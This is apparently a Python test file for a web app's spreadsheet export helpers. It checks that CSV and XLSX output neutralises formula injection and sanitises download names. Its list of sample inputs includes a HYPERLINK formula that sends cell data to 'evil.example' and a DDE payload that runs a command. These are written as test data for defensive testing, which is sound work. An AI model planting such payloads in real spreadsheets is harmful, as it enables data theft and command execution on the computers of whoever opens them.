"""Exports never turn user text into formulas."""

from __future__ import annotations

import csv
import datetime
import io
import zipfile
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from pokja.spreadsheets import (
    XLSX_CONTENT_TYPE,
    csv_response,
    csv_rows,
    safe_cell,
    safe_sheet_title,
    xlsx_append,
    xlsx_bytes,
    xlsx_response,
    xlsx_sheet,
    xlsx_workbook,
)

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+62 812 3456 7890",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_gets_an_apostrophe_for_untyped_cells(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["Rapat koordinasi", "", " =1", "a=b", "Rp 1.000", -5, Decimal("-1.50"), 0.67, None, True],
)
def test_everything_else_is_left_alone(value):
    assert safe_cell(value) == value


def _workbook_rows() -> tuple[bytes, list]:
    rows = [
        ["Judul", "Nilai", "Tanggal"],
        *([text, -1, datetime.date(2026, 11, 27)] for text in DANGEROUS),
        ["#N/A", Decimal("0.67"), datetime.datetime(2026, 11, 27, 9, 30, tzinfo=ZoneInfo("UTC"))],
        ["kontrol\x01\x0bkarakter", float("nan"), None],
    ]
    workbook = xlsx_workbook()
    sheet = xlsx_sheet(workbook, "Rencana [aksi]: 2026/27?")
    for row in rows:
        xlsx_append(sheet, row)
    return xlsx_bytes(workbook), rows


def test_xlsx_text_is_stored_as_text_and_values_keep_their_types():
    data, rows = _workbook_rows()
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Rencana  aksi   2026 27"
    for index, text in enumerate(DANGEROUS, start=2):
        cell = sheet.cell(index, 1)
        # (XML reads a carriage return back as a line feed; still text.)
        assert (cell.value, cell.data_type) == (text.replace("\r", "\n"), "s")
        assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
        assert sheet.cell(index, 2).value == -1 and sheet.cell(index, 2).data_type == "n"
        assert sheet.cell(index, 3).value == datetime.datetime(2026, 11, 27)
    last_but_one = len(rows) - 1
    assert sheet.cell(last_but_one, 1).data_type == "s"  # "#N/A" is text, not an error
    assert sheet.cell(last_but_one, 2).value == pytest.approx(0.67)
    # Aware datetimes are written in the site's time zone (XLSX has no zones).
    assert sheet.cell(last_but_one, 3).value == datetime.datetime(2026, 11, 27, 16, 30)
    assert sheet.cell(len(rows), 1).value == "kontrolkarakter"
    assert sheet.cell(len(rows), 2).value == "nan"


def test_the_xlsx_file_holds_no_formula_at_all():
    data, _ = _workbook_rows()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_csv_cells_are_made_safe_and_read_back():
    text = csv_rows([["Judul", "Nilai"], *([value, -1] for value in DANGEROUS)])
    assert text.startswith("\ufeff")
    parsed = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert parsed[0] == ["Judul", "Nilai"]
    for row, value in zip(parsed[1:], DANGEROUS, strict=True):
        assert row == ["'" + value, "-1"]


def test_downloads_are_attachments_with_safe_names_and_private():
    workbook = xlsx_workbook()
    xlsx_append(xlsx_sheet(workbook, "Data"), ["=1+1"])
    response = xlsx_response(workbook, '../../rekap "LKE".xlsx')
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="rekap LKE.xlsx"'
    assert "no-store" in response["Cache-Control"]
    response = csv_response([["=1"]], "rekap survei.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.decode("utf-8-sig") == "'=1\r\n"


def test_sheet_titles_are_made_valid():
    assert safe_sheet_title("") == "Sheet"
    assert len(safe_sheet_title("x" * 50)) == 31
